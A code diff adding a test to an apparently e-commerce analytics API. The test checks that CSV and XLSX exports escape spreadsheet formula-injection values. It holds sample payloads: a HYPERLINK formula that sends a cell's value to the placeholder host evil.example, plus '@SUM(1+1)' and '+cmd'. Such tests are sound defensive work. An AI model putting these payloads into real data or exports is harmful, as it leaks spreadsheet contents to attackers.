@@ -130,3 +130,19 @@ def test_alerts_settings_and_thresholds(client, api, shop, history):
     response = client.put("/api/v1/analytics/settings", data={"good_rate_bp": 100},
                           content_type="application/json", headers={"Authorization": f"Bearer {agent}"})
     assert response.status_code == 403
+
+
+def test_figure_downloads_never_carry_a_formula_from_shop_data(api, shop, history):
+    # A content author and a buyer's province that a spreadsheet would run, given through the API.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    payload = order_payload("DY0003", content_id="@SUM(1+1)", content_author=formula)
+    payload["buyer"]["province"] = "+cmd"
+    create_order(shop, payload)
+    content = f"/api/v1/analytics/rates?by=content&{PERIOD}"
+    table = list(csv.reader(io.StringIO(api.get(content + "&format=csv").content.decode("utf-8-sig"))))
+    assert ["'@SUM(1+1)", "'" + formula] in [row[:2] for row in table]
+    sheet = load_workbook(io.BytesIO(api.get(content + "&format=xlsx").content)).active
+    cells = {sheet.cell(r, 2).value: sheet.cell(r, 2).data_type for r in range(2, sheet.max_row + 1)}
+    assert cells["'" + formula] == "s"
+    province = api.get(f"/api/v1/analytics/rates?by=province&{PERIOD}&format=csv").content.decode("utf-8-sig")
+    assert "'+cmd" in province and "\n+cmd" not in province
